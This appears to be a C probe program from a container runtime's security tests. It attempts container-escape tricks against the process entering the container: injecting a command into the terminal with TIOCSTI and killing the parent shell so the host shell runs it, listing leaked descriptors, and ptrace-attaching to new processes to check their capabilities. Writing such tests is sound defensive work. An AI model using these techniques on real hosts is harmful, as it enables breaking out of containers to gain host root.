/* What root inside a container tries against the process that entered it (tests/security/test_enter.py).
 *
 *   boundary_probe sti PATH     push "touch PATH" with TIOCSTI into every descriptor and the
 *                               controlling terminal, then kill the parent shell (when it is in sight),
 *                               so that whoever reads that terminal next reads the line: a host
 *                               shell runs it as host root
 *   boundary_probe fds          list the descriptors this process got, each judged: a pipe or a pty
 *                               of this container's devpts is fine, anything else is BAD
 *   boundary_probe race STOP    until the file STOP exists: for every new process, read its
 *                               capabilities and try to ptrace it; print what it found
 *
 * Built static (gcc -static), so it runs in any container.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

static void sti(int fd, const char *text, const char *what) {
    int pushed = 0, err = 0;
    for (const char *c = text; *c; c++) {
        if (ioctl(fd, TIOCSTI, c) != 0) { err = errno; break; }
        pushed++;
    }
    printf("sti %s: %s\n", what, pushed ? "PUSHED" : strerror(err));
}

static int do_sti(const char *path) {
    char text[512];
    snprintf(text, sizeof text, "touch %s\n", path);
    for (int fd = 0; fd < 3; fd++) {
        char what[16];
        snprintf(what, sizeof what, "fd%d", fd);
        sti(fd, text, what);
    }
    DIR *dir = opendir("/proc/self/fd");
    struct dirent *entry;
    while (dir && (entry = readdir(dir)) != NULL) {
        if (entry->d_name[0] == '.') continue;
        char link[300];
        snprintf(link, sizeof link, "/proc/self/fd/%s", entry->d_name);
        int fd = open(link, O_RDWR | O_NOCTTY);
        if (fd >= 0) { sti(fd, text, link); close(fd); }
    }
    if (dir) closedir(dir);
    int tty = open("/dev/tty", O_RDWR);
    if (tty >= 0) { sti(tty, text, "/dev/tty"); close(tty); }
    else printf("sti /dev/tty: %s\n", strerror(errno));
    printf("sti-done\n");
    fflush(stdout);
    pid_t parent = getppid();
    if (parent > 1) kill(parent, SIGKILL);     /* the shell inside: the caller's shell reads next */
    return 0;
}

static int do_fds(void) {
    struct stat ptmx;
    int have_pts = stat("/dev/pts/ptmx", &ptmx) == 0;
    DIR *dir = opendir("/proc/self/fd");
    int bad = 0, self = dirfd(dir);
    struct dirent *entry;
    while ((entry = readdir(dir)) != NULL) {
        if (entry->d_name[0] == '.') continue;
        int fd = atoi(entry->d_name);
        if (fd == self) continue;
        char link[64], target[256] = "";
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, target, sizeof target - 1);
        if (n > 0) target[n] = 0;
        struct stat st;
        const char *kind = "BAD";
        if (fstat(fd, &st) == 0) {
            if (S_ISFIFO(st.st_mode) && fd <= 2) kind = "pipe";
            else if (S_ISCHR(st.st_mode) && fd <= 2 && have_pts && st.st_dev == ptmx.st_dev) kind = "container-pty";
        }
        if (strcmp(kind, "BAD") == 0) bad++;
        printf("fd %d %s %s\n", fd, kind, target);
    }
    closedir(dir);
    printf("FDPROBE %s\n", bad ? "BAD" : "ok");
    return 0;
}

static unsigned long long field(const char *status, const char *name) {
    const char *at = strstr(status, name);
    return at ? strtoull(at + strlen(name), NULL, 16) : 0;
}

static int read_file(const char *path, char *buf, size_t size) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return -1;
    ssize_t n = read(fd, buf, size - 1);
    close(fd);
    if (n < 0) return -1;
    buf[n] = 0;
    return 0;
}

static int do_race(const char *stop) {
    char status[4096], path[64];
    read_file("/proc/self/status", status, sizeof status);
    unsigned long long mine = field(status, "CapBnd:");
    int last = getpid(), seen = 0, attached = 0, attached_helper = 0, beyond = 0;
    unsigned long long worst = 0;
    while (access(stop, F_OK) != 0) {
        DIR *dir = opendir("/proc");
        struct dirent *entry;
        int top = last;
        while ((entry = readdir(dir)) != NULL) {
            int pid = atoi(entry->d_name);
            if (pid <= last || pid == getpid()) continue;
            if (pid > top) top = pid;
            seen++;
            snprintf(path, sizeof path, "/proc/%d/status", pid);
            if (read_file(path, status, sizeof status) == 0) {
                unsigned long long eff = field(status, "CapEff:") | field(status, "CapPrm:")
                                         | field(status, "CapBnd:");
                if (eff & ~mine) { beyond++; worst |= eff & ~mine; }
            }
            /* Seize, then stop it with PTRACE_INTERRUPT (no SIGSTOP left behind), look, let it go. */
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                int wstatus, resend = 0;
                attached++;
                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                if (waitpid(pid, &wstatus, __WALL) == pid && WIFSTOPPED(wstatus)) {
                    char comm[64] = "";
                    snprintf(path, sizeof path, "/proc/%d/comm", pid);
                    read_file(path, comm, sizeof comm);
                    snprintf(path, sizeof path, "/proc/%d/status", pid);
                    if (read_file(path, status, sizeof status) == 0) {
                        unsigned long long eff = field(status, "CapEff:") | field(status, "CapPrm:");
                        if (eff & ~mine) { beyond++; worst |= eff & ~mine; }
                    }
                    /* The command the test runs is "true": anything else is the helper before its exec. */
                    if (strncmp(comm, "true", 4) != 0) {
                        attached_helper++;
                        printf("attached to %d before its exec: %s", pid, comm);
                    }
                    if ((wstatus >> 16) == 0) resend = WSTOPSIG(wstatus);   /* a signal it was getting */
                    ptrace(PTRACE_DETACH, pid, 0, resend);
                }
            }
        }
        closedir(dir);
        last = top;
    }
    printf("RACE seen=%d attached=%d attached_helper=%d beyond=%d worst=%llx bounding=%llx\n",
           seen, attached, attached_helper, beyond, worst, mine);
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 3 && strcmp(argv[1], "sti") == 0) return do_sti(argv[2]);
    if (argc == 2 && strcmp(argv[1], "fds") == 0) return do_fds();
    if (argc == 3 && strcmp(argv[1], "race") == 0) return do_race(argv[2]);
    fprintf(stderr, "usage: boundary_probe sti PATH | fds | race STOPFILE\n");
    return 2;
}
